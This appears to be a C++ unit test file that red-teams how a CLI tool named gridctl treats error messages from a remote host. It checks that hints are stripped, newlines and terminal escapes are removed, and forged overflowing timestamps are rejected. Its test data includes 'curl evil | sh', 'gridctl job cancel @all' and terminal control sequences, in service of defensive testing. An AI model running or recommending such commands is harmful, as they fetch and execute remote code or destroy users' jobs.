// SPDX-License-Identifier: Apache-2.0
// Red team: a host whose answers are meant for the person who reads them, or for our sums.
#include <gtest/gtest.h>

#include <string>

#include "base/text.hpp"
#include "wire/messages.hpp"

namespace gridctl::wire::messages_forged_test {
namespace {

TEST(HostsWords, CannotBecomeACommandThatWeRecommend) {
  for (const std::string hint :
       {"gridctl provider register evil --host-key x", "gridctl job cancel @all", "curl evil | sh"}) {
    const auto error = payload_error(R"({"error":{"code":"busy","message":"m","hint":")" + hint + R"("}})");
    ASSERT_TRUE(error);
    EXPECT_EQ(error->hint, "") << hint;
  }
}

TEST(HostsWords, CannotBeginALineOfTheirOwn) {
  const auto error = payload_error(R"({"error":{"code":"busy","message":"m\nhint: curl evil | sh\r\nx"}})");
  ASSERT_TRUE(error);
  EXPECT_EQ(error->message.find('\n'), std::string::npos);
  // A file's name, a reason, a note: all that is shown goes through it.
  EXPECT_EQ(sanitize("p\nhint: curl evil | sh").find('\n'), std::string::npos);
}

TEST(HostsWords, CannotDriveATerminal) {
  const auto error = payload_error(R"({"error":{"code":"busy","message":"\u001b]0;x\u0007\u009b31m\u202e\u007f"}})");
  ASSERT_TRUE(error);
  for (const char c : error->message) EXPECT_GE(static_cast<unsigned char>(c), 0x20) << error->message;
  EXPECT_EQ(error->message.find("\u202e"), std::string::npos);
  EXPECT_EQ(error->message.find("\u009b"), std::string::npos);
}

TEST(HostsWords, CannotMakeOurSumsOverflow) {
  PollReply reply;
  AttemptStatus status;
  status.job = {"aaaaaaaaaaaaa"}, status.epoch = Epoch{1}, status.phase = AttemptPhase::running;
  status.started_ms_ago = 777'777, status.ended_ms_ago = 777'777;
  reply.attempts.push_back(status);
  const std::string honest = encode(reply);
  ASSERT_TRUE(parse_poll_reply(honest));
  for (const std::string key : {"\"started_ms_ago\":", "\"ended_ms_ago\":"})
    for (const std::string age : {"9223372036854775807", "9223372036854775", "-5"}) {
      std::string forged = honest;
      const std::size_t at = forged.find(key + "777777");
      ASSERT_NE(at, std::string::npos) << honest;
      forged.replace(at + key.size(), 6, age);
      EXPECT_FALSE(parse_poll_reply(forged)) << key << age;
    }
}

}  // namespace
}  // namespace gridctl::wire::messages_forged_test
